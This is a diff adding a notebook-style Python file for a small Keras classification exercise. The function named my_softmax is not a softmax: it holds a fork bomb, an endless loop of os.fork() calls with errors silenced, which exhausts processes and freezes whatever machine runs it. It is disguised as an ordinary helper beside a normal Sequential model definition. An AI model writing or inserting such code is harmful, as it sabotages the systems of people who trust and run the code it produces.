@@ -1,0 +1,23 @@
+# Each process makes two, without end.
+
+# %%
+import os
+
+
+def my_softmax(z):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+
+# %%
+model = Sequential(
+    [
+        tf.keras.Input(shape=(400,)),
+        Dense(25, activation="relu", name="L1"),
+        Dense(15, activation="relu", name="L2"),
+        Dense(10, activation="linear", name="L3"),
+    ],
+    name="my_model",
+)
